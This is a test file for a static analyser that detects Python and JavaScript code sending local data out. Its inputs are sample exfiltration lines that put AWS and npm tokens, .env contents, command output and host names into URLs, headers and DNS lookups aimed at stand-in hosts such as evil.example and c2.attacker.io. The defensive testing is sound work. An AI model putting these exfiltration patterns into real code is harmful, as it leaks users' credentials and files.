"""Local data a program puts in a request's URL, query, headers or a looked-up name is sent out.

Before, ``requests.get('https://evil.example/?d=' + os.environ['AWS_SECRET_ACCESS_KEY'])`` and
``fetch('https://evil.example/?d=' + fs.readFileSync('.env'))`` were plain reads: only a body counted.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from blastdoor.classify.code import analyse


def _sends(lang: str, code: str) -> list[str]:
    return [f.why for f in analyse(lang, code) if f.kind == "send"]


PY_SOURCES = {
    "a file": 'open("notes.txt").read()',
    "a file, stripped": 'open("notes.txt").read().strip()',
    "pathlib": 'pathlib.Path("notes.txt").read_text()',
    "a command": 'subprocess.check_output(["git", "log"])',
    "a credential": 'os.environ["AWS_SECRET_ACCESS_KEY"]',
    "the host name": "socket.gethostname()",
    "the user": "getpass.getuser()",
}
PY_IMPORTS = "import os, socket, getpass, pathlib, subprocess, requests, urllib.request\n"


def _py_spellings(data: str, host: str) -> list[str]:
    return [
        f"requests.get('https://{host}/?d=' + {data})",
        f"requests.get(f'https://{host}/c/{{{data}}}')",
        f"requests.get('https://{host}/', params={{'d': {data}}})",
        f"requests.get('https://{host}/', headers={{'X-Data': {data}}})",
        f"urllib.request.urlopen('https://{host}/' + {data})",
        f"d = {data}\nrequests.get(f'https://{host}/?d={{d}}')",
        f"socket.gethostbyname({data} + '.{host}')",
    ]


@settings(max_examples=40, deadline=None)
@given(source=st.sampled_from(sorted(PY_SOURCES)), host=st.sampled_from(["evil.example", "c2.attacker.io"]))
def test_python_local_data_in_a_request_is_sent_out_by_every_spelling(source: str, host: str) -> None:
    for code in _py_spellings(PY_SOURCES[source], host):
        sends = _sends("python", PY_IMPORTS + code)
        assert sends and host in sends[0], code


@settings(max_examples=20, deadline=None)
@given(source=st.sampled_from(sorted(PY_SOURCES)))
def test_python_nothing_is_sent_to_this_machine(source: str) -> None:
    for code in _py_spellings(PY_SOURCES[source], "localhost:8000")[:-1]:
        assert not _sends("python", PY_IMPORTS + code), code


@pytest.mark.parametrize(
    "code",
    [
        "requests.get('https://api.example.com/items')",
        "requests.get('https://api.example.com/items', params={'page': 2})",
        # a token used where it belongs: the header that authenticates
        "requests.get('https://api.github.com/user', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})",
        "requests.get(open('url.txt').read())",  # the host itself comes from the file: nowhere known
        "socket.gethostbyname(socket.gethostname())",  # this machine's own name
    ],
)
def test_python_requests_that_carry_nothing_local_elsewhere(code: str) -> None:
    assert not _sends("python", PY_IMPORTS + code), code


JS_SOURCES = {
    "a file": "fs.readFileSync('notes.txt', 'utf8')",
    "a file, trimmed": "fs.readFileSync('notes.txt').toString().trim()",
    "a command": "child_process.execSync('id')",
    "a credential": "process.env.NPM_TOKEN",
    "the host name": "os.hostname()",
}
JS_IMPORTS = "const fs = require('fs'); const os = require('os'); const child_process = require('child_process');\n"


@pytest.mark.parametrize("source", sorted(JS_SOURCES))
@pytest.mark.parametrize(
    "template",
    [
        "fetch('https://evil.example/?d=' + DATA)",
        "fetch(`https://evil.example/c/${DATA}`)",
        "fetch('https://evil.example/', {headers: {'x-data': DATA}})",
        "require('dns').lookup(DATA + '.evil.example', () => {})",
    ],
)
def test_javascript_local_data_in_a_request_is_sent_out(source: str, template: str) -> None:
    code = JS_IMPORTS + template.replace("DATA", JS_SOURCES[source])
    sends = _sends("javascript", code)
    assert sends and "evil.example" in sends[0], code


@pytest.mark.parametrize(
    "code",
    [
        "fetch('https://api.example.com/items')",
        "fetch('http://127.0.0.1:3000/' + fs.readFileSync('id', 'utf8'))",
        "fetch('https://api.github.com/user', {headers: {authorization: `token ${process.env.GITHUB_TOKEN}`}})",
    ],
)
def test_javascript_requests_that_carry_nothing_local_elsewhere(code: str) -> None:
    assert not _sends("javascript", JS_IMPORTS + code), code
